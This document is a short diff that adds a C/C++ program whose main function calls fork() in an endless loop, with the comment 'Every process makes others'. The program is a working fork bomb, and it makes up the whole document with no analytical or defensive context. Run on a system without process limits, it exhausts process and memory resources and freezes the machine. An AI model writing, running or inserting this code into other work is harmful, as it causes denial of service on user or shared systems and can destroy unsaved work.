@@ -1,0 +1,5 @@
+// Every process makes others.
+#include <unistd.h>
+int main() {
+    while (true) fork();
+}
